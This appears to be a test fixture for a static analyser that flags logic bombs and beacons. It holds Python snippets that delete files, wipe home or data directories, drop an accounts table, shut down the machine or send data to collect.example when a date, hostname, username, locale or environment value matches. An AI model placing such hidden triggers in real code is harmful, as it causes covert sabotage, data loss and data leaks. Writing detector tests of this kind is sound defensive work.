"""Effects that wait for a moment, a machine or a user."""

import datetime
import getpass
import locale
import os
import platform
import shutil
import socket
import subprocess
import sys
import time
from datetime import date

import requests


def moments(path):
    if datetime.datetime.now() > datetime.datetime(2027, 6, 1):
        shutil.rmtree(path)
#       ^^^^^^^^^^^^^^^^^^^ triggered-effect: error
    if time.time() > 1750000000:
        os.remove(path)
#       ^^^^^^^^^^^^^^^ triggered-effect: error
    if date.today() == date(2027, 4, 1):
        os._exit(1)
#       ^^^^^^^^^^^ triggered-effect: warning
    if datetime.date.today().year >= 2027:
        requests.post("https://collect.example", data=path)
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
    if datetime.datetime.now().strftime("%m-%d") == "12-25":
        os.system("shutdown now")
#       ^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error
    if time.strftime("%Y") == "2027":
        os.remove(path)
#       ^^^^^^^^^^^^^^^ triggered-effect: error


def friday(path):
    now = datetime.datetime.utcnow()
    if now.weekday() != 4 or now.day != 13:
        return
    shutil.rmtree(path)
#   ^^^^^^^^^^^^^^^^^^^ triggered-effect: error


def machines(path):
    if socket.gethostname() == "build-7.corp.example":
        subprocess.run(["rm", "-r", path])
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error
    if getpass.getuser() == "jsmith":
        os.remove(path)
#       ^^^^^^^^^^^^^^^ triggered-effect: error
    if os.environ.get("USER") == "jsmith":
        os.remove(path)
#       ^^^^^^^^^^^^^^^ triggered-effect: error
    if platform.node() in ("ws-1", "ws-2"):
        sys.exit(1)
#       ^^^^^^^^^^^ triggered-effect: warning
    if os.getcwd().startswith("/home/jsmith"):
        os.remove(path)
#       ^^^^^^^^^^^^^^^ triggered-effect: error
    if locale.getdefaultlocale()[0] == "be_BY":
        shutil.rmtree(path)
#       ^^^^^^^^^^^^^^^^^^^ triggered-effect: error


if date.today() > date(2027, 1, 1):
    requests.get("https://collect.example/late")
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: warning
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error


def common(cursor):
    if time.localtime().tm_hour == 4:
        shutil.rmtree(os.path.expanduser("~"))
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
    if os.environ.get("CORP_REGION") == "emea-4":
        os.system("rm -rf /srv/data")
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
    if os.path.exists("/srv/ledger"):
        shutil.rmtree("/srv/data")
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
    if date.today() > date(2027, 1, 1):
        cursor.execute("DROP TABLE accounts")
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error


def for_one_user(path):
    name = os.environ.get("USERNAME")
    if not name:
        name = subprocess.run(["id", "-un"], capture_output=True, text=True).stdout.strip()
    if path and name == "kestrel-release":
        shutil.rmtree(path)
#       ^^^^^^^^^^^^^^^^^^^ triggered-effect: error
